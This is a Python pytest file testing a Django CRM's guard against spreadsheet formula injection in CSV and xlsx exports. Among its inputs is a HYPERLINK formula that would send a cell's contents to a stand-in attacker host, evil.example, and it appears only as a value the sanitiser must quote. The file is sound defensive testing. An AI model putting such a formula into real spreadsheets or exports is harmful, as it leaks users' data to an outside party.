"""cell_safe: the one guard every CSV and xlsx export puts around its cells."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from django.utils.functional import lazy

from advisor_crm.spreadsheets import cell_safe, row_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_it_quotes_text_that_could_start_a_formula(text: str) -> None:
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["钱多多", "a=b", "1-2", " =1", "", "'=already quoted"])
def test_it_leaves_other_text_alone(text: str) -> None:
    assert cell_safe(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, 0, 3.5, -1.25, Decimal("-1200.50"), None, True, dt.date(2026, 5, 20)],
)
def test_it_keeps_numbers_dates_and_blanks_as_they_are(value: object) -> None:
    assert cell_safe(value) is value


def _lazy_text(text: str) -> object:
    # What gettext_lazy returns, without adding a test string to the catalogue.
    return lazy(lambda: text, str)()


def test_it_writes_a_lazy_translation_as_text_and_guards_it() -> None:
    assert cell_safe(_lazy_text("=lazy")) == "'=lazy"
    assert cell_safe(_lazy_text("Name")) == "Name"


def test_it_guards_every_cell_of_a_row() -> None:
    assert row_safe(["=1", 2, "三", "-x"]) == ["'=1", 2, "三", "'-x"]
